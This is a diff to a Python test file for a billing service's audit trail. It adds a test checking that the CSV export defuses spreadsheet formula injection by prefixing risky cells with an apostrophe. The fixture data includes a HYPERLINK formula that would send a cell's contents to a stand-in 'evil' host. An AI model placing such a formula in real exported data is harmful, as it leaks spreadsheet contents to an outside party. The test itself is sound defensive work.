@@ -7,6 +7,8 @@ bounded; and the trail says what billing itself did (keys, months), so no pod ma
 
 from __future__ import annotations
 
+import csv
+import io
 import time
 from typing import Any
 
@@ -114,3 +116,29 @@ async def test_a_trail_longer_than_one_read_says_where_the_next_begins(ledger, u
     assert len(csv.text.splitlines()) == 1 + 3
     assert float(csv.headers["x-infermeter-next-from"]) == at + 2
     assert csv.headers["x-infermeter-next-after"] == seen[2]
+
+
+async def test_the_audit_csv_defuses_every_formula_a_spreadsheet_would_run(ledger, url):
+    """The trail keeps what callers wrote (a revocation's reason, a name from a sign-in): in the
+    CSV, a cell a spreadsheet would run as a formula, after blanks or in full width too, starts
+    with an apostrophe, and the CSV reader gives every other cell back as kept."""
+    hyperlink = ' =HYPERLINK("https://evil/?"&A1,"x")'
+    sent = [
+        event(n=1, why=hyperlink, actor="\u00a0+1+1", target="team:search"),
+        event(n=2, why="\uff1d1+1", actor="ops", target="@SUM(A1)"),
+        event(n=3, why="rotated: leaked", actor="-ana", target="team:ml"),
+    ]
+    assert (await send(url, sent, SMALL_0)).status_code == 200
+    async with httpx.AsyncClient(base_url=url) as client:
+        answer = await client.get("/v1/audit.csv", headers=ADMIN)
+    assert answer.status_code == 200
+    cells = {row["event_id"]: row for row in csv.DictReader(io.StringIO(answer.text))}
+    first, second, third = (cells[e["event_id"]] for e in sent)
+    assert (first["why"], first["actor"]) == ("'" + hyperlink, "'\u00a0+1+1")
+    assert (second["why"], second["target"]) == ("'\uff1d1+1", "'@SUM(A1)")
+    assert (third["why"], third["actor"], third["target"]) == (
+        "rotated: leaked",
+        "'-ana",
+        "team:ml",
+    )
+    assert float(first["occurred_at"]) == sent[0]["occurred_at"]
